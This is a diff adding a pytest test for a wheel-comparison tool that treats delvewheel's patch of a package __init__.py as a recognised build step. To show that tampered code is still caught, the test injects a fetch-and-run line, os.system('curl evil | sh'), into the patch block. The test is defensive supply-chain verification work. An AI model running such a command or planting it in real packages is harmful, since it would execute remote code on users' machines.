@@ -353,3 +353,36 @@ def test_source_checksums_written_from_another_checkout_are_build_path(tmp_path)
     # the same rule for a wheel rebuilt here (linux): the path is named, nothing else differs
     cmp = compare_wheels(mac, reb, binary=True)
     assert verdict_of(cmp)[0] is Verdict.EQUIVALENT and "build-path" in cmp.normalizations, cmp.differences
+
+
+# The shape delvewheel inserts into a Windows wheel's package __init__.py (its v2 layout, Python >= 3.10).
+DELVE = (b"# start delvewheel patch\ndef _delvewheel_patch_1_11_2():\n    import os\n"
+         b"    if os.path.isdir(libs_dir := os.path.abspath(os.path.join(os.path.dirname(__file__), os.pardir, "
+         b"'pkg.libs'))):\n        os.add_dll_directory(libs_dir)\n\n\n_delvewheel_patch_1_11_2()\n"
+         b"del _delvewheel_patch_1_11_2\n# end delvewheel patch\n")
+
+
+def test_delvewheel_patch_is_a_named_tool_step_and_any_other_code_in_it_is_not(tmp_path):
+    """shapely-like Windows wheels: delvewheel grafts pkg.libs/*.dll and patches pkg/__init__.py."""
+    doc = b'"""The package."""\n'
+    reb = wheel(tmp_path / "r.whl", members=BASE)
+    dll = ("pkg.libs/geos_c-abc123.dll", b"MZ\x90", 0o644)
+
+    def patched(block, lib=dll):
+        init = (doc + b"\n\n" + block + b"\n" + b"x = 1\n").replace(b"\n", b"\r\n")  # a Windows checkout
+        return wheel(tmp_path / "w.whl", members=_with(BASE, "pkg/__init__.py", init) + [lib])
+
+    reb = wheel(tmp_path / "r.whl", members=_with(BASE, "pkg/__init__.py", doc + b"x = 1\n"))
+    cmp = compare_other_platform(patched(DELVE), reb)
+    assert not cmp.differences, cmp.differences
+    assert any("delvewheel 1.11.2 patch of pkg/__init__.py" in s for s in cmp.tool_steps)
+    # the same block calling anything else, naming a directory the wheel does not graft, or the file's own
+    # code changed beside it: differs
+    evil = DELVE.replace(b"        os.add_dll_directory(libs_dir)\n", b"        os.add_dll_directory(libs_dir)\n"
+                         b"        os.system('curl evil | sh')\n")
+    def differing(pub, rebuilt=reb):
+        return [d.path for d in compare_other_platform(pub, rebuilt).differences if not d.path.endswith("RECORD")]
+    assert differing(patched(evil)) == ["pkg/__init__.py"]
+    assert differing(patched(DELVE, ("other/x.dll", b"MZ", 0o644))) == ["pkg/__init__.py"]
+    reb2 = wheel(tmp_path / "r2.whl", members=_with(BASE, "pkg/__init__.py", doc + b"x = 2\n"))
+    assert differing(patched(DELVE), reb2) == ["pkg/__init__.py"]
